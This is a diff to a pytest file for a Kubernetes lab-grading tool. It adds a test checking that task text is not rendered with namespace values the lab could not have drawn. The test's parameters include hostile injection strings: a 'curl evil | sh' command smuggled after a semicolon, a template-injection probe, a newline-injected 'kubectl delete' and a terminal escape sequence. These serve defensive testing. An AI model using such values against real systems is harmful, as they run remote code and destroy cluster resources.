@@ -22,8 +22,10 @@ from clusterdojo.errors import ContainerEngineError, UsageError
 from clusterdojo.grading.criteria import weigh
 from clusterdojo.grading.redaction import LAST_APPLIED
 from clusterdojo.grading.result import Result, after_check, lab_digest
+from clusterdojo.lab.loading import load_lab
 from clusterdojo.lab.scaffold import scaffold
 from clusterdojo.lab.suite import Suite
+from clusterdojo.lab.values import Drawn
 from clusterdojo.node.reader import NodeReader, Ran
 from clusterdojo.reporting import dispute_live, dispute_work
 from clusterdojo.reporting.dispute import archive
@@ -79,15 +81,20 @@ def store(tmp_path: Path) -> Store:
 
 
 def attempted(
-    store: Store, suite: Suite, number: int = 1, lab: str = LAB, key: Key | None = None
+    store: Store,
+    suite: Suite,
+    number: int = 1,
+    lab: str = LAB,
+    key: Key | None = None,
+    values: dict[str, Drawn] | None = None,
 ) -> Attempt:
     """An attempt that was checked once and has ended: its result alone is there."""
     record = AttemptRecord(
         id=f"20260101-12000{number}-{lab}-ab12",
         lab=lab,
         engine="kwok",
-        seed=7,
-        values={"namespace": f"plum{number}"},
+        seed=number,
+        values=values or load_lab(suite.lab_dir(LAB)).draw(number),
         clusters=["cluster1"],
         settle_seconds=1,
         started=STARTED,
@@ -229,10 +236,25 @@ def test_an_ended_attempt_has_its_task_from_the_lab(
     attempted(store, suite, 1)
     attempted(store, suite, 2)
     found = archived(store, suite, tmp_path)
-    assert "namespace `plum2`" in found["task.md"]
+    assert f"namespace `{load_lab(suite.lab_dir(LAB)).draw(2)['namespace']}`" in found["task.md"]
     assert found["checks/test_demo.py"] == suite.check_module(LAB).read_text()
     assert "the attempt has ended" in found["README.txt"]
     assert not [name for name in found if name.startswith(("work/", "live/", "start/"))]
+
+
+@pytest.mark.parametrize(
+    "namespace",
+    ["shop; curl evil | sh", "{{ lipsum }}", "plum\nkubectl delete", "\x1b[2J", ["plum"]],
+)
+def test_a_task_is_not_rendered_with_values_that_the_lab_can_not_draw(
+    store: Store, suite: Suite, tmp_path: Path, namespace: Drawn
+) -> None:
+    """Whoever judges would copy what a learner has written; the README says what is wrong."""
+    attempted(store, suite, values={"namespace": namespace})
+    found = archived(store, suite, tmp_path)
+    assert "task.md" not in found
+    why = "task.md: The lab's text is not shown with the values of this result: its value namespace"
+    assert why in found["README.txt"]
 
 
 @pytest.mark.usefixtures("running")
